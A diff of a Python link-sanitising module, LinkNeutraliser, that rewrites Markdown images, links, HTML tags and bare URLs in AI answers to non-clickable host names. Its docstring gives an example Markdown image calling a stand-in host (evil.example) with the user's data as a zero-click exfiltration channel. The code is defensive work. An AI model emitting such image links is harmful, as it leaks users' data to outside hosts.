@@ -4,7 +4,8 @@ A Markdown image is fetched by the browser as soon as the answer is shown, so
 `![x](https://evil.example/?q=<the user's data>)` leaks without a click; a link leaks on one.
 `LinkNeutraliser` keeps links to allowed hosts and rewrites the rest:
 
-- an image becomes its alt text and the bare host: `![chart](https://evil/x?q=1)` → `chart (image from evil)`;
+- an image becomes its alt text and the bare host:
+  `![chart](https://evil/x?q=1)` → `chart (image from evil)`;
 - a Markdown link becomes its text and the bare host: `[docs](https://evil/p?q=1)` → `docs (evil)`;
 - a bare URL becomes its host with the path dropped, and the dots bracketed so no renderer
   links it: `https://evil.example/p?q=1` → `evil[.]example/…`.
@@ -23,7 +24,9 @@ _IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)"
 _LINK = re.compile(r"(?<!!)\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
 _REFERENCE = re.compile(r"^\s{0,3}\[([^\]\n]+)\]:\s*<?(\S+?)>?(?:\s+.*)?$", re.MULTILINE)
 _HTML_SRC = re.compile(r"<(img|a|iframe|script|link)\b[^>]*>", re.IGNORECASE)
-_URL = re.compile(r"\b(?:https?|ftp|wss?)://[^\s<>()\[\]\"']+|\bwww\.[^\s<>()\[\]\"']+", re.IGNORECASE)
+_URL = re.compile(
+    r"\b(?:https?|ftp|wss?)://[^\s<>()\[\]\"']+|\bwww\.[^\s<>()\[\]\"']+", re.IGNORECASE
+)
 
 
 @dataclass(frozen=True, slots=True)
@@ -63,7 +66,9 @@ class LinkNeutraliser:
             return m.group(0) if self.allowed(m.group(2)) else f"[{m.group(1)}]: {off(m.group(2))}"
 
         def html(m: re.Match[str]) -> str:
-            urls = re.findall(r"(?:src|href|data|action)\s*=\s*[\"']?([^\"'\s>]+)", m.group(0), re.I)
+            urls = re.findall(
+                r"(?:src|href|data|action)\s*=\s*[\"']?([^\"'\s>]+)", m.group(0), re.I
+            )
             if all(self.allowed(u) for u in urls):
                 return m.group(0)
             return " ".join(f"({off(u)})" for u in urls if not self.allowed(u))
@@ -86,7 +91,7 @@ class LinkNeutraliser:
 
 def _host(url: str) -> str:
     try:
-        parts = urlsplit(url if "://" in url or url.startswith("//") else url)
+        parts = urlsplit(url)
         return (parts.hostname or "").lower().strip(".")
     except ValueError:
         return ""
